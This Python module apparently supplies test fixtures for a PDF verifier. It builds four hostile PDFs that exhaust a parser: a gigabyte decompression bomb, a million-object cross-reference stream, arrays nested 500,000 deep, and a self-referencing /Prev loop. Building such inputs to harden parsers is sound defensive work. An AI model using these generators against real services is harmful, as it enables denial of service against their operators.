"""Hostile PDFs, written byte by byte: what an attacker uploads to a public verifier.

Each one targets a different part of a PDF reader: a decompression bomb in an object stream
(memory), a million objects behind a compressed cross-reference stream (CPU and memory of
the object table), arrays nested hundreds of thousands deep (the parser's recursion) and a
``/Prev`` chain that loops (an endless walk of the file's history).
"""

from __future__ import annotations

import zlib
from collections.abc import Iterable

__all__ = ["decompression_bomb", "deep_nesting", "million_objects", "prev_loop"]

HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
_CATALOG = {
    1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm 4 0 R >>",
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
}


def _object_stream(objects: list[tuple[int, bytes]]) -> tuple[bytes, int]:
    """(uncompressed object stream body, /First)."""
    offsets, body, position = [], bytearray(), 0
    for number, data in objects:
        offsets.append(f"{number} {position}")
        body += data + b" "
        position = len(body)
    head = (" ".join(offsets) + " ").encode()
    return head + bytes(body), len(head)


def _stream(number: int, dictionary: bytes, data: bytes) -> bytes:
    return (
        f"{number} 0 obj\n".encode()
        + dictionary.replace(b"%LEN%", str(len(data)).encode())
        + b"\nstream\n"
        + data
        + b"\nendstream\nendobj\n"
    )


def _with_xref_stream(
    raw: dict[int, bytes],
    streams: Iterable[tuple[int, list[int], bytes]],
    size: int,
) -> bytes:
    """A file of ``raw`` objects and prebuilt object streams, indexed by an xref stream.

    :param streams: ``(stream number, member object numbers, the stream object's bytes)``.
    """
    out = bytearray(HEADER)
    entries: dict[int, tuple[int, int, int]] = {}
    for number, data in raw.items():
        entries[number] = (1, len(out), 0)
        out += f"{number} 0 obj\n".encode() + data + b"\nendobj\n"
    for number, members, data in streams:
        entries[number] = (1, len(out), 0)
        out += data
        for index, member in enumerate(members):
            entries[member] = (2, number, index)
    xref_number = size
    entries[xref_number] = (1, len(out), 0)
    table = bytearray()
    for number in range(size + 1):
        kind, field2, field3 = entries.get(number, (0, 0, 0))
        table += bytes([kind]) + field2.to_bytes(4, "big") + field3.to_bytes(4, "big")
    xref_at = len(out)
    data = zlib.compress(bytes(table), 6)
    out += _stream(
        xref_number,
        f"<< /Type /XRef /Size {size + 1} /W [1 4 4] /Root 1 0 R /Filter /FlateDecode "
        "/Length %LEN% >>".encode(),
        data,
    )
    out += f"startxref\n{xref_at}\n%%EOF\n".encode()
    return bytes(out)


def _packed(
    objects: dict[int, bytes], first_stream: int, per_stream: int
) -> list[tuple[int, list[int], bytes]]:
    items = sorted(objects.items())
    streams: list[tuple[int, list[int], bytes]] = []
    for start in range(0, len(items), per_stream):
        chunk = items[start : start + per_stream]
        number = first_stream + len(streams)
        body, first = _object_stream(chunk)
        data = zlib.compress(body, 6)
        dictionary = (
            f"<< /Type /ObjStm /N {len(chunk)} /First {first} /Filter /FlateDecode /Length %LEN% >>"
        ).encode()
        streams.append((number, [n for n, _ in chunk], _stream(number, dictionary, data)))
    return streams


def million_objects(count: int = 1_000_000) -> bytes:
    """A catalog whose form lists ``count`` fields, each its own object in object streams."""
    first_field = 6
    fields = {first_field + i: b"<< /FT /Tx /T (f) >>" for i in range(count)}
    refs = b"[" + b" ".join(f"{n} 0 R".encode() for n in fields) + b"]"
    objects = {**fields, 5: refs}
    raw = {**_CATALOG, 4: b"<< /Fields 5 0 R >>"}
    first_stream = first_field + count
    streams = _packed(objects, first_stream, per_stream=2000)
    return _with_xref_stream(raw, streams, first_stream + len(streams))


def decompression_bomb(inflated_bytes: int = 1024 * 1024 * 1024) -> bytes:
    """The form dictionary lives in an object stream that inflates to ``inflated_bytes``."""
    member = b"<< /Fields [] >>"
    head = b"5 0 "
    compressor = zlib.compressobj(9)
    data = bytearray(compressor.compress(head + member))
    chunk = b" " * (16 * 1024 * 1024)
    for _ in range(inflated_bytes // len(chunk)):
        data += compressor.compress(chunk)
    data += compressor.flush()
    dictionary = (
        f"<< /Type /ObjStm /N 1 /First {len(head)} /Filter /FlateDecode /Length %LEN% >>"
    ).encode()
    raw = {**_CATALOG, 4: b"5 0 R"}
    raw[1] = b"<< /Type /Catalog /Pages 2 0 R /AcroForm 5 0 R >>"
    streams = [(6, [5], _stream(6, dictionary, bytes(data)))]
    return _with_xref_stream(raw, streams, 7)


def deep_nesting(depth: int = 500_000) -> bytes:
    """The form's field list is an array nested ``depth`` deep."""
    raw = {**_CATALOG, 4: b"<< /Fields " + b"[" * depth + b"]" * depth + b" >>"}
    return _with_xref_stream(raw, [], 5)


def prev_loop() -> bytes:
    """A classic cross-reference table whose trailer's ``/Prev`` points back at itself."""
    out = bytearray(HEADER)
    offsets = {}
    objects = {**_CATALOG, 4: b"<< /Fields [] >>"}
    for number, data in objects.items():
        offsets[number] = len(out)
        out += f"{number} 0 obj\n".encode() + data + b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n0 5\n0000000000 65535 f \n"
    for number in range(1, 5):
        out += f"{offsets[number]:010d} 00000 n \n".encode()
    out += f"trailer\n<< /Size 5 /Root 1 0 R /Prev {xref_at} >>\n".encode()
    out += f"startxref\n{xref_at}\n%%EOF\n".encode()
    return bytes(out)
